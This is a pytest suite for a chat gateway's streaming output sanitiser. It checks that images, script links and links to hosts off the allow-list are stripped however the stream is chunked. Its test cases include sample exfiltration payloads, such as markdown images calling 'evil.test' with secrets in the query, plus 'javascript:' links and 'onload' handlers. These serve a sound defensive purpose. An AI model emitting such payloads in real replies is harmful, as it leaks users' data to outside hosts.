"""Output sanitising: images removed and off-list links reduced to text, the same wherever the stream was cut;
and through the edge: an image and an off-list link split across streamed deltas never reach the client."""

from __future__ import annotations

import uuid

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatmesh.gateway.sanitise import Sanitiser, host_allowed
from tests.gateway.conftest import StartGateway
from tests.gateway.fake_chat import FakeChat
from tests.gateway.sse_client import collect, reply_text

ALLOW = ("docs.example.com",)

CASES = [
    ("see ![cat](http://evil.test/x?d=secret) ok", "see  ok"),
    ("[click](http://evil.test/?q=1) and [docs](https://docs.example.com/a)",
     "click and [docs](https://docs.example.com/a)"),
    ("[sub](https://api.docs.example.com/x)", "[sub](https://api.docs.example.com/x)"),
    ("[fake](https://docs.example.com.evil.test/x)", "fake"),
    ("[js](javascript:alert(1))", "js"),
    ("<img src='http://evil.test/x'> hi", " hi"),
    ("<b onclick='x()'>bold</b> <svg onload=x><details open>d</details>", "<b>bold</b> d"),
    ('<a href="http://evil.test">text</a> and <a href="https://docs.example.com">d</a>',
     'text and <a href="https://docs.example.com">d</a>'),
    ("<https://evil.test/x> <https://docs.example.com/y>", "https://evil.test/x <https://docs.example.com/y>"),
    ("[![img](http://e.test/i)](http://e.test/l)", ""),
    ("![ref image][1] and [ref link][1]\n[1]: http://evil.test/\nafter", " and ref link\nafter"),
    ("a < b, arr[0], x! and [brackets] stay", "a < b, arr[0], x! and [brackets] stay"),
    ("unterminated [abc", "unterminated [abc"),
    ("nested ![a [b] c](http://e.test/x) gone", "nested  gone"),
    ("escaped \\![not](http://e.test/x)", "escaped \\!not"),
]


@pytest.mark.parametrize(("source", "expected"), CASES)
def test_whole_text(source: str, expected: str) -> None:
    assert Sanitiser(ALLOW).whole(source) == expected


@pytest.mark.parametrize(("source", "expected"), CASES)
def test_every_two_chunk_split_gives_the_same_output(source: str, expected: str) -> None:
    for cut in range(len(source) + 1):
        s = Sanitiser(ALLOW)
        assert s.feed(source[:cut]) + s.feed(source[cut:]) + s.flush() == expected, cut


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["![", "[", "](", ")", "]", "<img src=x>", "<", ">", "http://evil.test/", "!",
                                 "text ", "\n", "https://docs.example.com/", "<a href='http://e.test'>", "</a>"]),
                max_size=30),
       st.lists(st.integers(min_value=0, max_value=400), max_size=6))
def test_output_never_depends_on_chunking(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole = Sanitiser(ALLOW).whole(text)
    s = Sanitiser(ALLOW)
    out, last = [], 0
    for cut in sorted(c for c in cuts if c <= len(text)):
        out.append(s.feed(text[last:cut]))
        last = cut
    out.append(s.feed(text[last:]))
    out.append(s.flush())
    assert "".join(out) == whole
    assert "<img" not in whole


def test_held_text_is_bounded() -> None:
    s = Sanitiser(ALLOW, max_hold=16)
    out = s.feed("[" + "x" * 40)
    assert out.startswith("\\[x")
    assert s.flush() == ""


def test_host_allowlist() -> None:
    assert host_allowed("https://docs.example.com/a", ALLOW)
    assert host_allowed("http://DOCS.example.com./a", ALLOW)
    assert not host_allowed("https://example.com/a", ALLOW)
    assert not host_allowed("ftp://docs.example.com/a", ALLOW)
    assert not host_allowed("//docs.example.com/a", ALLOW)
    assert not host_allowed("https://docs.example.com@evil.test/", ALLOW)


async def test_edge_sanitises_constructs_split_across_deltas(start_gateway: StartGateway, fake: FakeChat) -> None:
    gw = await start_gateway(CHATMESH_LINK_ALLOWLIST="docs.example.com")
    fake.chunks = ["Look ![dia", "gram](http://evil.test/p.png?leak=", "secret) and [here](http://ev",
                   "il.test/?q=secret) or [docs](https://docs.exa", "mple.com/x)."]
    async with gw.client() as client:
        conv = (await client.post("/v1/conversations")).json()["id"]
        async with client.stream("POST", f"/v1/conversations/{conv}/turns",
                                 json={"turn_id": str(uuid.uuid4()), "content": "x"}) as r:
            events = await collect(r)
        stored = (await client.get(f"/v1/conversations/{conv}")).json()["messages"][1]["content"]
    text = reply_text(events)
    assert text == "Look  and here or [docs](https://docs.example.com/x)."
    assert "evil" not in text and "secret" not in text
    assert stored == text  # the history is sanitised the same way when read back
    deltas = [int(e.id or 0) for e in events if e.event == "turn.delta"]
    assert deltas == sorted(deltas)


def test_markup_inside_an_allowed_link_destination_does_not_survive() -> None:
    # Found by the chunking property test: an allowed host's link whose destination carries an HTML image.
    out = Sanitiser(ALLOW).whole("see [docs](https://docs.example.com/<img src=x>) now")
    assert "<img" not in out and "docs" in out
    assert Sanitiser(ALLOW).whole("[a](https://docs.example.com/x \"title\")") == "a"
    assert Sanitiser(ALLOW).whole("[a](https://docs.example.com/x)") == "[a](https://docs.example.com/x)"
